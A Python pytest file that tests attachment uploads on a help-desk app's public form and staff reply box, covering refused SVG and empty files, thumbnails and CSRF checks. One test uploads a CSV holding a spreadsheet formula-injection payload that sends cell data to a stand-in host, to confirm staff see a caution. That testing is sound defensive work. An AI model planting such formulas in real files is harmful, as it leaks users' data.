"""Files on the public form and in the reply box, as a browser sends them."""

from __future__ import annotations

import pytest
import webtest

from tests.api.test_attachments import PNG, SVG, TEXT
from tests.factories import make_ticket
from tests.pages.test_ticket_pages import form_with_action, log_in


@pytest.fixture
def browser(app) -> webtest.TestApp:
    return webtest.TestApp(app, extra_environ={"HTTP_ACCEPT": "text/html"})


def _fill(form) -> None:
    form["name"] = "Cleo Customer"
    form["email"] = "cleo@example.org"
    form["subject"] = "Printer jams"
    form["body"] = "Photo attached."


def test_the_public_form_takes_files(browser, db):
    form = form_with_action(browser.get("/"), "/")
    assert form.enctype == "multipart/form-data"
    _fill(form)
    form["attachments"] = [webtest.Upload("jam.png", PNG, "image/png")]
    done = form.submit()
    assert done.status_int == 303
    with db.transaction() as conn:
        assert conn.execute("SELECT filename, content_type FROM attachments").fetchall() == [
            ("jam.png", "image/png")
        ]


def test_a_refused_file_shows_why_by_the_field_and_keeps_what_was_typed(browser, db):
    form = form_with_action(browser.get("/"), "/")
    _fill(form)
    form["attachments"] = [webtest.Upload("logo.svg", SVG, "image/svg+xml")]
    page = form.submit(status=415)
    error = page.html.select_one("#attachments-error").text
    assert error.startswith("logo.svg: This type of file is not accepted.")
    again = form_with_action(page, "/")
    assert again["subject"].value == "Printer jams"
    assert again["body"].value == "Photo attached."
    with db.transaction() as conn:
        assert conn.execute("SELECT count(*) FROM tickets").fetchone() == (0,)


def test_a_reply_with_files_shows_them_in_the_thread(browser, make_staff, db):
    make_staff("ADMIN", email="ana@example.com")
    log_in(browser, "ana@example.com")
    with db.transaction() as conn:
        ticket = make_ticket(conn)
    page = browser.get(f"/tickets/{ticket['pid']}")
    form = form_with_action(page, f"/tickets/{ticket['pid']}/messages")
    assert form.enctype == "multipart/form-data"
    form["body"] = "The photo and the log."
    form["attachments"] = [
        webtest.Upload("jam.png", PNG, "image/png"),
        webtest.Upload("printer.log", TEXT, "text/plain"),
    ]
    shown = form.submit().follow()
    files = shown.html.select("article.message")[-1].select(".attachments li")
    assert [li.select("a")[-1].text for li in files] == ["jam.png", "printer.log"]
    thumb = files[0].select_one("img.thumb")
    assert thumb["src"].endswith("?inline=1")
    assert files[1].select_one("img") is None  # only images get a thumbnail
    image = browser.get(thumb["src"])
    assert image.body == PNG
    assert image.headers["Content-Disposition"].startswith("inline;")


def test_a_refused_reply_file_keeps_the_reply(browser, make_staff, db):
    make_staff("ADMIN", email="ana@example.com")
    log_in(browser, "ana@example.com")
    with db.transaction() as conn:
        ticket = make_ticket(conn)
    form = form_with_action(
        browser.get(f"/tickets/{ticket['pid']}"), f"/tickets/{ticket['pid']}/messages"
    )
    form["body"] = "Keep this text."
    form["attachments"] = [webtest.Upload("empty.txt", b"", "text/plain")]
    page = form.submit(status=422)
    assert page.html.select_one("#attachments-error").text.startswith("empty.txt is empty.")
    assert form_with_action(page, f"/tickets/{ticket['pid']}/messages")["body"].value == (
        "Keep this text."
    )
    with db.transaction() as conn:
        assert conn.execute("SELECT count(*) FROM ticket_messages").fetchone() == (0,)


def test_a_form_with_files_without_its_csrf_token_is_refused(browser, make_staff, db):
    make_staff("ADMIN", email="ana@example.com")
    log_in(browser, "ana@example.com")
    with db.transaction() as conn:
        ticket = make_ticket(conn)
    resp = browser.post(
        f"/tickets/{ticket['pid']}/messages",
        {"body": "Forged"},
        upload_files=[("attachments", "a.txt", TEXT)],
        status=403,
    )
    assert "expired" in resp.text
    with db.transaction() as conn:
        assert conn.execute("SELECT count(*) FROM attachments").fetchone() == (0,)


def test_staff_see_a_spreadsheet_caution_by_a_csv_file(browser, make_staff, db):
    """Issue 18: a CSV's cells starting with = + - or @ run as formulas in a spreadsheet;
    the desk keeps files as they came, so the staff page says so by each CSV."""
    form = form_with_action(browser.get("/"), "/")
    _fill(form)
    form["attachments"] = [
        webtest.Upload("orders.csv", b'item,total\n=HYPERLINK("http://x.example/?"&A1),1\n'),
        webtest.Upload("printer.log", TEXT, "text/plain"),
    ]
    assert form.submit().status_int == 303
    make_staff("ADMIN", email="ana@example.com")
    log_in(browser, "ana@example.com")
    with db.transaction() as conn:
        [(pid,)] = conn.execute("SELECT pid FROM tickets").fetchall()
    files = browser.get(f"/tickets/{pid}").html.select("article.message .attachments li")
    cautions = {li.select("a")[-1].text: li.select_one(".file-caution") for li in files}
    assert set(cautions) == {"orders.csv", "printer.log"}
    assert "formulas" in cautions["orders.csv"].text
    assert cautions["printer.log"] is None
